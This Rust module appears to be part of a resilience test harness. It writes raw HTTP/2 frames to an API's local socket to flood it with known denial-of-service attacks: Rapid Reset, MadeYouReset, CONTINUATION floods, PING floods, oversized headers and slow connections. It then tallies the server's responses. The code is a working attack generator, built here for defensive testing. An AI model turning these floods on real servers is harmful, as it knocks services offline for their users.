//! HTTP/2 frames written by hand to the API's socket: streams opened and reset, resets that the
//! server is made to send, header blocks without end, frames of nothing.
//!
//! The attacker has a place at the socket; each flood has some 10,000 frames a second on one
//! connection, and connects again when it is refused.

use std::{
    collections::BTreeMap,
    sync::{Arc, Mutex, PoisonError},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{
        UnixStream,
        unix::{OwnedReadHalf, OwnedWriteHalf},
    },
    task::JoinHandle,
    time::Instant,
};

use super::{report::Outcome, stage::Stage};

/// Streams that are opened and reset at once (CVE-2023-44487).
pub async fn rapid_reset(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "stream opened and reset", |id| {
        [request(id, false), frame(RST_STREAM, 0, id, &CANCEL)].concat()
    })
    .await
}

/// Streams that the server has to reset (CVE-2025-8671): a window that grows by nothing or
/// overflows (RFC 9113, 6.9.1), data after the end of a stream.
pub async fn made_you_reset(stage: &Stage, until: Instant) -> Outcome {
    let third = until.saturating_duration_since(Instant::now()) / 3;
    let zero = |id| [request(id, false), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat();
    let end = Instant::now() + third;
    let mut outcome = flood(stage, end, "window that grows by 0", zero).await;
    let over = |id| [request(id, false), frame(WINDOW_UPDATE, 0, id, &OVERFLOW)].concat();
    let end = Instant::now() + third;
    outcome.merge(flood(stage, end, "window that overflows", over).await);
    let after =
        |id| [request(id, true), frame(DATA, 0, id, &[0; 5]), frame(DATA, 0, id, &[0; 5])].concat();
    let end = Instant::now() + third;
    outcome.merge(flood(stage, end, "data after the end", after).await);
    outcome
}

/// A header block that goes on in CONTINUATION without end (CVE-2024-27316).
pub async fn continuation(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "CONTINUATION", |id| match id {
        1 => frame(HEADERS, 0, 1, &header_block()),
        _ => frame(CONTINUATION, 0, 1, &literal(b"x-more", &[b'a'; 64])),
    })
    .await
}

/// DATA without data on a call that never ends.
pub async fn empty_data(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "empty DATA", |id| match id {
        1 => request(1, false),
        _ => frame(DATA, 0, 1, &[]),
    })
    .await
}

/// PING and SETTINGS, each of which wants an answer.
pub async fn pings_and_settings(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "PING and SETTINGS", |_| {
        [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat()
    })
    .await
}

/// Answers to a PING that the server never sent, each of which its library would tell of.
pub async fn ping_answers(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "answer to no PING", |id| frame(PING, ACK, 0, &u64::from(id).to_be_bytes()))
        .await
}

/// Headers over the limit of 8 KiB, and a table of headers that is filled anew by each call.
pub async fn giant_headers(stage: &Stage, until: Instant) -> Outcome {
    flood(stage, until, "headers of 12 KiB", |id| {
        let mut block = header_block();
        for number in 0..3u8 {
            // Literal with indexing: the table of headers takes it.
            block.push(0x40);
            block.extend(text(&[b'a' + number; 8]));
            block.extend(text(&[b'x'; 4000]));
        }
        frame(HEADERS, END_HEADERS, id, &block)
    })
    .await
}

/// Calls whose headers or bodies come byte by byte and never end, on many connections.
pub async fn slow_calls(stage: &Stage, until: Instant) -> Outcome {
    let mut outcome = Outcome::default();
    let mut wires = Vec::new();
    for number in 0..SLOW_CONNECTIONS {
        match Wire::connect(stage).await {
            Ok(mut wire) => {
                let begin = match number % 2 {
                    0 => frame(HEADERS, 0, 1, &header_block()),
                    _ => request(1, false),
                };
                outcome.demand(wire.write(&begin).await, "the connection ended at once");
                wires.push(wire);
            }
            Err(fault) => outcome.demand(false, fault),
        }
    }
    outcome.sent.add_many("slow connection", SLOW_CONNECTIONS);
    while Instant::now() < until {
        for (number, wire) in wires.iter_mut().enumerate() {
            let piece = match number % 2 {
                0 => frame(CONTINUATION, 0, 1, &[]),
                _ => frame(DATA, 0, 1, &[0]),
            };
            outcome.sent.add("piece");
            let _ = wire.write(&piece).await;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    wires.into_iter().for_each(|wire| wire.end(&mut outcome));
    outcome
}

/// Sends what `make` gives for each odd stream id, until the time is over.
async fn flood(
    stage: &Stage,
    until: Instant,
    what: &str,
    make: impl Fn(u32) -> Vec<u8>,
) -> Outcome {
    let mut outcome = Outcome::default();
    while Instant::now() < until {
        let mut wire = match Wire::connect(stage).await {
            Ok(wire) => wire,
            Err(fault) => {
                outcome.demand(false, fault);
                break;
            }
        };
        outcome.sent.add("connection");
        let (mut id, mut is_open) = (1, true);
        let mut tick = tokio::time::interval(TICK);
        while is_open && Instant::now() < until {
            tick.tick().await;
            let mut bytes = Vec::new();
            for _ in 0..A_TICK {
                bytes.extend(make(id));
                id += 2;
            }
            outcome.sent.add_many(what, A_TICK);
            is_open = wire.write(&bytes).await;
        }
        wire.end(&mut outcome);
    }
    outcome
}

/// A connection of HTTP/2 with prior knowledge.
struct Wire {
    writer: OwnedWriteHalf,
    reader: JoinHandle<()>,
    heard: Arc<Mutex<BTreeMap<String, u64>>>,
}

impl Wire {
    async fn connect(stage: &Stage) -> Result<Self, String> {
        let stream = UnixStream::connect(stage.attacked.socket()).await;
        let (reader, writer) = stream.map_err(|error| error.to_string())?.into_split();
        let heard = Arc::<Mutex<BTreeMap<String, u64>>>::default();
        let reader = tokio::spawn(listen(reader, heard.clone()));
        let mut wire = Self { writer, reader, heard };
        let preface = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        wire.write(&preface).await.then_some(wire).ok_or("refused at once".to_owned())
    }

    /// Whether the server still takes it.
    async fn write(&mut self, bytes: &[u8]) -> bool {
        let write = tokio::time::timeout(STUCK, self.writer.write_all(bytes)).await;
        matches!(write, Ok(Ok(()))) && !self.reader.is_finished()
    }

    fn end(self, outcome: &mut Outcome) {
        self.reader.abort();
        let heard = std::mem::take(&mut *self.heard.lock().unwrap_or_else(PoisonError::into_inner));
        heard.into_iter().for_each(|(what, count)| outcome.answered.add_many(what, count));
    }
}

async fn listen(mut reader: OwnedReadHalf, heard: Arc<Mutex<BTreeMap<String, u64>>>) {
    let mut head = [0; 9];
    while reader.read_exact(&mut head).await.is_ok() {
        let [a, b, c, kind, ..] = head;
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(0);
        let mut body = vec![0; length];
        if reader.read_exact(&mut body).await.is_err() {
            return;
        }
        let code =
            |at: usize| body.get(at..at + 4).and_then(|raw| raw.last()).copied().unwrap_or(0);
        let what = match kind {
            DATA => "DATA".to_owned(),
            HEADERS => "HEADERS".to_owned(),
            RST_STREAM => format!("RST_STREAM {}", code(0)),
            SETTINGS => "SETTINGS".to_owned(),
            PING => "PING".to_owned(),
            GOAWAY => format!("GOAWAY {}", code(4)),
            WINDOW_UPDATE => "WINDOW_UPDATE".to_owned(),
            other => format!("frame {other}"),
        };
        *heard.lock().unwrap_or_else(PoisonError::into_inner).entry(what).or_default() += 1;
    }
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&[a, b, c, kind, flags][..], &stream.to_be_bytes(), payload].concat()
}

/// A call of the health service, without its message.
fn request(id: u32, ends: bool) -> Vec<u8> {
    let flags = if ends { END_HEADERS | END_STREAM } else { END_HEADERS };
    frame(HEADERS, flags, id, &header_block())
}

/// RFC 7541: POST and http from the static table, the rest as literals that no table keeps.
fn header_block() -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04];
    block.extend(text(b"/grpc.health.v1.Health/Check"));
    block.push(0x01);
    block.extend(text(b"localhost"));
    block.extend(literal(b"content-type", b"application/grpc"));
    block.extend(literal(b"te", b"trailers"));
    block
}

fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0x00][..], &text(name), &text(value)].concat()
}

/// A string without Huffman's code; its length has seven bits, then seven each (RFC 7541, 5.1).
fn text(value: &[u8]) -> Vec<u8> {
    let mut length = Vec::new();
    match u8::try_from(value.len()) {
        Ok(short) if short < 127 => length.push(short),
        _ => {
            length.push(127);
            length.extend(super::protobuf_varint(value.len() - 127));
        }
    }
    [&length[..], value].concat()
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const OVERFLOW: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// With [`A_TICK`]: 10,000 a second.
const TICK: Duration = Duration::from_millis(5);
const A_TICK: u64 = 50;
const SLOW_CONNECTIONS: u64 = 100;

/// A server that does not read for so long has stopped reading.
const STUCK: Duration = Duration::from_secs(2);
